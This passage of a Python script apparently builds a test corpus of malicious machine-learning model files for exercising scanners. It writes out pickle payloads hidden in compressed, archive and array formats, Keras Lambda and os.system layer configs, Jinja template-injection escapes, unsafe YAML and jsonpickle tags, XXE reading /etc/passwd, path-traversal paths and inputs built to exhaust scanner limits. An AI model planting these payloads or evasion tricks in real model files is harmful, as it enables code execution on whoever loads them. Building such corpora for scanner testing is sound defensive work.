    yield "zlib-best.z", zlib.compress(evil, 9)
    yield "zlib-none.z", zlib.compress(evil, 0)
    yield "gzip-nested.gz", _gzip(bz2.compress(zlib.compress(evil)))
    yield "old-joblib.pkl", b"ZF" + hex(len(evil)).ljust(19).encode() + zlib.compress(evil)
    yield "lz4.lz4", b"\x04\x22\x4d\x18\x64\x40\xa7" + struct.pack("<I", len(evil) | 1 << 31) + evil + bytes(4)
    yield (
        "zstd.zst",
        b"\x28\xb5\x2f\xfd\x20" + bytes([len(evil) & 255]) + (len(evil) << 3 | 1).to_bytes(3, "little") + evil,
    )
    yield "7z.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24) + evil


@attack
def arrays() -> Files:
    evil = payload()
    for name, descr in (
        ("object", "'O'"), ("object-big", "'>O'"), ("field", "[('x', 'O')]"), ("deep", "[('x', [('y', '|O8')])]"),
        ("subarray", "('|O', (1,))"), ("titled", "[(('t', 'x'), 'O')]"), ("object8", "'|O8'"), ("text-of-o", "'object'"),
    ):  # fmt: skip
        yield f"{name}.npy", npy(evil, descr)
        yield f"{name}.npz", zipped({"a.npy": npy(evil, descr)})
    yield "two-arrays.npy", npy(bytes(8), "'<f8'") + npy(evil)
    yield "array-then-pickle.npy", npy(bytes(8), "'<f8'") + evil
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}".ljust(200) + b"\n"
    yield "version-2.npy", b"\x93NUMPY\2\0" + struct.pack("<I", len(header)) + header + evil
    yield "version-3.npy", b"\x93NUMPY\3\0" + struct.pack("<I", len(header)) + header + evil
    yield "named-txt.txt", npy(evil)
    yield "in-tar.tar", _tar({"a.npy": npy(evil)})


@attack
def limits() -> Files:
    """What exhausts a limit of a scanner in front of the payload."""
    tail = payload()[2:]
    yield "numbers.pkl", b"\x80\4](" + b"K\1" * 300_000 + b"e0" + tail
    yield "texts.pkl", b"\x80\4](" + text("abc") * 100_000 + b"e0" + tail
    yield "memo.pkl", b"\x80\4" + b"N\x940" * 200_000 + tail
    yield "marks.pkl", b"\x80\4" + b"(" * 100_000 + b"1" * 100_000 + tail
    yield "pickles.pkl", pickled(b"N") * 50_000 + payload()
    yield (
        "globals.pkl",
        b"\x80\4" + b"".join(stack_global("collections", "OrderedDict") + b"0" for _ in range(5000)) + tail,
    )
    yield "deep.pkl", b"\x80\4" + b"]" * 5000 + b"a" * 4999 + b"0" + tail
    yield "long-name.pkl", b"c" + b"a" * 100_000 + b"\nsystem\n" + b"(" + _line(COMMAND) + b"tR."
    yield "dup.pkl", b"\x80\4]" + b"2" * 100_000 + b"0" * 100_000 + b"0" + tail
    yield "bytes.pkl", b"\x80\4B" + struct.pack("<I", 4 << 20) + bytes(4 << 20) + b"0" + tail
    yield "huge-length.pkl", b"\x80\4\x8e" + struct.pack("<Q", 1 << 60) + tail
    yield "negative-length.pkl", b"\x80\2T\xff\xff\xff\xff" + tail
    yield "members.zip", zipped({**{f"{number}": b"x" for number in range(3000)}, "z": payload()})
    yield "deep.zip", _deep(payload())
    yield "deep.gz", _gzip(_gzip(_gzip(_gzip(_gzip(_gzip(payload()))))))
    yield "zeros-before.gz", _gzip(b"\x80\4B" + struct.pack("<I", 20 << 20) + bytes(20 << 20) + b"0" + tail)
    yield "comment.json", b'{"a": "' + b"x" * (33 << 20) + b'", "class_name": "Lambda"}'
    yield "nested.json", b"[" * 50_000 + b'{"class_name": "Lambda", "config": {}}' + b"]" * 50_000


def _deep(data: bytes) -> bytes:
    for _ in range(8):
        data = zipped({"x": data})
    return data


def _layers(*layers: object) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "s", "layers": list(layers)},
        "registered_name": None,
    }


def _keras(config: object, **others: bytes) -> bytes:
    members = {"metadata.json": b'{"keras_version": "3.9.0"}', "config.json": json.dumps(config).encode()}
    return zipped({**members, **others})


def _layer(name: str, config: object, module: str = "keras.layers", registered: str | None = None) -> dict[str, object]:
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


@attack
def keras() -> Files:
    code = {
        "class_name": "__lambda__",
        "config": {"code": base64.b64encode(b"\xe3" + bytes(40)).decode(), "defaults": None},
    }
    evil = _layer("Lambda", {"name": "l", "function": code})
    yield "lambda.keras", _keras(_layers(evil))
    yield (
        "lambda-legacy.json",
        json.dumps(
            {
                "class_name": "Sequential",
                "config": [{"class_name": "Lambda", "config": {"function": ["4wEA", None, None]}}],
            }
        ).encode(),
    )
    yield (
        "lambda-nested.keras",
        _keras(_layers(_layer("TimeDistributed", {"layer": _layer("Bidirectional", {"layer": evil})}))),
    )
    yield "lambda-in-loss.keras", _keras({**_layers(), "compile_config": {"loss": code}})
    yield "lambda-in-metrics.keras", _keras({**_layers(), "compile_config": {"metrics": [[code]]}})
    yield "lambda-escaped.json", json.dumps(_layers(evil)).replace("Lambda", "\\u004c\\u0061mbda").encode()
    yield "key-escaped.json", json.dumps(_layers(evil)).replace("class_name", "class\\u005fname").encode()
    yield (
        "key-twice.json",
        json.dumps(_layers(evil))
        .replace('"class_name": "Lambda"', '"class_name": "Lambda", "class_name": "Dense"')
        .encode(),
    )
    yield "utf-16.json", json.dumps(_layers(evil)).encode("utf-16")
    yield "utf-32.json", json.dumps(_layers(evil)).encode("utf-32-be")
    yield "bom.json", b"\xef\xbb\xbf" + json.dumps(_layers(evil)).encode()
    yield "comment.json", b"// model\n" + json.dumps(_layers(evil)).encode()
    yield "single-quotes.json", json.dumps(_layers(evil)).replace('"', "'").encode()
    yield (
        "yaml.yaml",
        b"class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config: {function: x}\n",
    )
    yield "flow.yaml", b"{class_name: Model, config: {layers: [{class_name: Lambda, config: {}}]}}"
    yield "text.txt", json.dumps(_layers(evil)).encode()
    for module, name in (
        ("os", "system"), ("posix", "system"), ("builtins", "exec"), ("subprocess", "getoutput"), ("pickle", "loads"), ("runpy", "run_path"),
        ("keras.utils", "get_file"), ("keras.saving", "load_model"), ("keras.src.saving.saving_lib", "load_model"),
        ("keras.config", "enable_unsafe_deserialization"), ("keras.src.utils.file_utils", "extract_archive"),
        ("tensorflow", "py_function"), ("tensorflow.io", "write_file"), ("tensorflow.raw_ops", "PyFunc"),
        ("numpy", "load"), ("torch", "load"), ("joblib", "load"), ("evil.package", "Layer"), ("shutil", "rmtree"), ("ctypes", "CDLL"),
    ):  # fmt: skip
        function = {"module": module, "class_name": "function", "config": name, "registered_name": name}
        yield f"function-{module}.{name}.keras", _keras(_layers(_layer("Dense", {"units": 1, "activation": function})))
        yield f"class-{module}.{name}.json", json.dumps(_layers(_layer(name, {"command": COMMAND}, module))).encode()
    yield (
        "tfsm.keras",
        _keras(_layers(_layer("TFSMLayer", {"filepath": "http://localhost/x", "call_endpoint": "serve"}))),
    )
    yield (
        "torch-module.keras",
        _keras(
            _layers(
                _layer(
                    "TorchModuleWrapper",
                    {"module": base64.b64encode(payload()).decode()},
                    "keras.src.utils.torch_utils",
                )
            )
        ),
    )
    yield "jax.keras", _keras(_layers(_layer("JaxLayer", {"call_fn": code})))
    yield "registered.keras", _keras(_layers(_layer("Layer", {}, None, "evil>Layer")))  # type: ignore[arg-type]
    yield "vocabulary.keras", _keras(_layers(_layer("StringLookup", {"vocabulary": "/etc/passwd"})))
    yield "tf-op-lambda.json", json.dumps(_layers(_layer("TFOpLambda", {"function": "io.write_file"}))).encode()
    yield (
        "class-method.json",
        json.dumps(_layers(_layer("ClassMethod", {"cls_symbol": "os", "method_name": "system"}))).encode(),
    )
    yield "pickle-beside.keras", _keras(_layers(), **{"assets/vocab": payload()})
    yield "weights-are-npz.keras", _keras(_layers(), **{"model.weights.npz": zipped({"a.npy": npy(payload())})})
    config = json.dumps(_layers(evil)).encode()
    yield "hdf5.h5", b"\x89HDF\r\n\x1a\n" + bytes(800) + b"model_config\0" + config
    yield "hdf5-far.h5", b"\x89HDF\r\n\x1a\n" + bytes(5 << 20) + config
    yield "hdf5-escaped.h5", b"\x89HDF\r\n\x1a\n" + bytes(90) + config.replace(b"Lambda", b"L\\u0061mbda")
    yield "hdf5-named-bin.bin", b"\x89HDF\r\n\x1a\n" + bytes(90) + config
    yield "hdf5-pickle.h5", b"\x89HDF\r\n\x1a\n" + bytes(90) + b"PYTABLES_FORMAT_VERSION" + payload()


def _message(*parts: tuple[int, bytes]) -> bytes:
    return b"".join(bytes([number << 3 | 2]) + _length(len(data)) + data for number, data in parts)


def _length(size: int) -> bytes:
    out = b""
    while size > 127:
        out, size = out + bytes([size & 127 | 128]), size >> 7
    return out + bytes([size])


@attack
def graphs() -> Files:
    for op in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "PyFuncStateless"):
        node = _message((1, b"node"), (2, op.encode()))
        yield f"{op}-saved_model.pb", b"\x08\1" + _message((2, _message((2, _message((1, node))))))
    for path in ("../x", "/etc/passwd", "..\\..\\x", "C:\\x", "a/../../x", "\\\\host\\share"):
        yield f"external-{abs(zlib.crc32(path.encode()))}.onnx", onnx(path)
        yield f"external-deep-{abs(zlib.crc32(path.encode()))}.onnx", onnx(path, deep=True)
    yield "onnx-is-pickle.onnx", payload()
    yield "tflite-and-zip.tflite", b"\x1c\0\0\0TFL3" + bytes(90) + zipped({"labels.pkl": payload()})


_ESCAPES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('CMD') }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ lipsum.__globals__['os'].system('CMD') }}",
    "{{ self._TemplateReference__context.namespace }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ messages|map('attr', '__class__')|list }}",
    "{{ ''['__cla' ~ 'ss__'] }}",
    "{% import 'x' as y %}{{ y }}",
    "{% set x = joiner.__init__ %}{{ x.__globals__ }}",
)


def _gguf(template: str) -> bytes:
    def string(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    pairs = string("general.architecture") + struct.pack("<I", 8) + string("llama")
    pairs += string("tokenizer.chat_template") + struct.pack("<I", 8) + string(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 2) + pairs + bytes(64)


@attack
def templates() -> Files:
    for number, escape in enumerate(_ESCAPES):
        code = escape.replace("CMD", COMMAND)
        yield f"{number}-tokenizer_config.json", json.dumps({"chat_template": "{{ bos_token }}" + code}).encode()
        yield f"{number}-chat_template.jinja", ("{{ bos_token }}" + code).encode()
        yield f"{number}.gguf", _gguf("{{ bos_token }}" + code)
    named = {"chat_template": [{"name": "default", "template": "ok"}, {"name": "tool", "template": _ESCAPES[0]}]}
    yield "named-tokenizer_config.json", json.dumps(named).encode()


@attack
def configurations() -> Files:
    yield "auto_map-config.json", json.dumps({"auto_map": {"AutoModel": "modeling_evil.Model"}}).encode()
    yield (
        "auto_map-remote-config.json",
        json.dumps({"auto_map": {"AutoConfig": "someone/else--configuration.Config"}}).encode(),
    )
    yield "auto_map-list-tokenizer_config.json", json.dumps({"auto_map": {"AutoTokenizer": ["tok.T", None]}}).encode()
    yield (
        "custom_pipelines-config.json",
        json.dumps({"custom_pipelines": {"x": {"impl": "pipeline.Evil", "pt": ["AutoModel"]}}}).encode(),
    )
    yield "trust-config.json", json.dumps({"trust_remote_code": True}).encode()
    yield "modules.json", json.dumps([{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}]).encode()
    yield "model_index.json", json.dumps({"_class_name": ["pipeline", "Evil"], "unet": ["unet", "Evil"]}).encode()
    yield (
        "peft-adapter_config.json",
        json.dumps(
            {"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "evil_module"}}
        ).encode(),
    )
    for target in (
        "os.system",
        "builtins.eval",
        "subprocess.Popen",
        "evil.module.function",
        "hydra.utils.get_method",
        "pickle.loads",
    ):
        yield f"hydra-{target}.yaml", f"model:\n  _target_: {target}\n  _args_: ['{COMMAND}']\n".encode()
        yield f"hydra-{target}.json", json.dumps({"model": {"_target_": target, "_args_": [COMMAND]}}).encode()
    for number, document in enumerate((
        f"!!python/object/apply:os.system ['{COMMAND}']", f"a: !!python/object/new:os.system ['{COMMAND}']",
        "a: !!python/name:os.system ''", "a: !!python/module:antigravity ''", "a: !!python/object:subprocess.Popen {}",
        f"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['{COMMAND}']",
        f"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['{COMMAND}']",
        f"%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['{COMMAND}']",
        f"a: !!python/object/apply:subprocess.check_output [[{COMMAND.split(maxsplit=1)[0]}, x]]", "a: !new:subprocess.Popen [x]",
        "a: !!python%2Fobject%2Fapply:os.system [x]", "a:\n  - !!python/object/apply:builtins.eval ['1']\n",
        "a: !apply:os.system [x]", "x: &a !!python/tuple [*a, !!python/name:os.popen '']",
    )):  # fmt: skip
        yield f"{number}.yaml", document.encode()
        if number % 3 == 0:
            yield f"{number}-MLmodel", document.encode()
            yield f"{number}.txt", document.encode()
    yield "jsonpickle.json", json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]}).encode()
    yield "jsonpickle-object.json", json.dumps({"py/object": "subprocess.Popen", "args": COMMAND}).encode()
    yield "jsonpickle-repr.json", json.dumps({"model": {"py/repr": "os/os.system('x')"}}).encode()
    serialized = {
        "policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": base64.b64encode(payload()).decode()}
    }
    yield (
        "stable-baselines.zip",
        zipped({"data": json.dumps(serialized).encode(), "_stable_baselines3_version": b"2.3"}),
    )
    yield "stable-baselines-data.json", json.dumps(serialized).encode()
    yield "xxe.pmml", b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'
    yield "bomb.xml", b'<!DOCTYPE p [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><p>&b;</p>'
    yield (
        "xinclude.xml",
        b'<?xml version="1.0"?><p xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></p>',
    )
    yield "bom-auto_map-config.json", b"\xef\xbb\xbf" + json.dumps({"auto_map": {"AutoModel": "m.M"}}).encode()
    yield "utf-16-auto_map-config.json", json.dumps({"auto_map": {"AutoModel": "m.M"}}).encode("utf-16")
    yield "escaped-auto_map-config.json", b'{"auto\\u005fmap": {"AutoModel": "m.M"}}'


@attack
def skops() -> Files:
    for module, name in (
        ("os", "system"),
        ("builtins", "eval"),
        ("operator", "methodcaller"),
        ("subprocess", "Popen"),
        ("evil", "Model"),
        ("functools", "reduce"),
    ):
        node = {"__class__": name, "__module__": module, "__loader__": "ObjectNode", "content": None, "__id__": 1}
        yield f"type-{module}.{name}.skops", zipped({"schema.json": json.dumps({**node, "protocol": 2}).encode()})
        nested = {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "content": [node],
            "__id__": 2,
        }
        yield f"nested-{module}.{name}.skops", zipped({"schema.json": json.dumps({**nested, "protocol": 2}).encode()})
    function = {
        "__class__": "function",
        "__module__": "builtins",
        "__loader__": "FunctionNode",
        "content": {"module_path": "os", "function": "system"},
    }
    yield "function.skops", zipped({"schema.json": json.dumps(function).encode()})
    method = {
        "__class__": "method",
        "__module__": "builtins",
        "__loader__": "MethodNode",
        "content": {"func": "__reduce__", "obj": {}},
    }
    yield "method.skops", zipped({"schema.json": json.dumps(method).encode()})
    node = {
        "__class__": "ndarray",
        "__module__": "numpy",
        "__loader__": "NdArrayNode",
        "type": "numpy",
        "file": "1.npy",
    }
    yield "array-of-objects.skops", zipped({"schema.json": json.dumps(node).encode(), "1.npy": npy(payload())})


@attack
def tables() -> Files:
    """Tables whose schema has a pickled type, which readers loaded (CVE-2023-47248)."""
    name, metadata = b"ARROW:extension:name", b"ARROW:extension:metadata"
    schema = (
        b"\xff\xff\xff\xff"
        + bytes(60)
        + metadata
        + b"\0" * 8
        + payload()
        + b"\0" * 8
        + name
        + b"\0" * 8
        + b"arrow.py_extension_type"
        + bytes(9)
    )
    yield "feather.arrow", b"ARROW1\0\0" + schema + b"ARROW1"
    yield "stream.arrows", schema + bytes(64)
    for shift in range(3):
        coded = base64.b64encode(bytes(shift) + schema)
        yield f"schema-{shift}.parquet", b"PAR1" + bytes(40) + b"ARROW:schema" + coded + struct.pack("<I", 99) + b"PAR1"


@attack
def code_of_configurations() -> Files:
    """Configurations, each of one framework, that name a file, a class or a function which is run at loading."""
    flavor = "flavors:\n  sklearn:\n    pickled_model: {}\n    {}\n"
    yield "MLmodel", flavor.format("model.pkl", "code: code").encode()
    yield "MLmodel", flavor.format("model.pkl", "model_code_path: model.py").encode()
    yield "MLmodel", flavor.format("../../other/model.pkl", "code: null").encode()
    yield "MLmodel", flavor.format("/tmp/model.pkl", "code: null").encode()
    for target in ("os.system", "subprocess.Popen", "builtins.exec", "ours.payload.Model"):
        yield "config.yaml", f"model:\n  target: {target}\n  params: {{command: x}}\n".encode()
        yield "config.yaml", f"model:\n  class_path: {target}\n  init_args: {{command: x}}\n".encode()
        yield "config.json", json.dumps({"model": {"target": target, "params": {"command": COMMAND}}}).encode()
        yield "model.nemo", _tar({"model_config.yaml": f"target: {target}\n".encode(), "model_weights.ckpt": b"N."})
    for entry in ("before_creation", "after_creation", "after_pipeline_creation"):
        yield "config.cfg", f'[nlp]\nlang = "en"\n\n[nlp.{entry}]\n@callbacks = "ours.payload.v1"\n'.encode()
        yield "config.cfg", f'[nlp]\nlang = "en"\n{entry} = {{"@callbacks": "ours.payload.v1"}}\n'.encode()
    yield "config.cfg", b'[nlp]\nlang = "en"\n\n[components.x]\nfactory = "payload"\n'
    manifest = json.dumps({"model": {"modelName": "m", "handler": "handler.py", "serializedFile": "m.txt"}}).encode()
    yield "m.mar", zipped({"MAR-INF/MANIFEST.json": manifest, "m.txt": b"text", "handler.py": b"pass\n"})


def main() -> None:
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    count: dict[str, int] = {}
    for kind, name, data in corpus():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(data)
        count[kind] = count.get(kind, 0) + 1
    for kind, number in count.items():
        print(f"{number:5} {kind}")
    print(f"{sum(count.values()):5} files in {folder}")


if __name__ == "__main__":
    main()
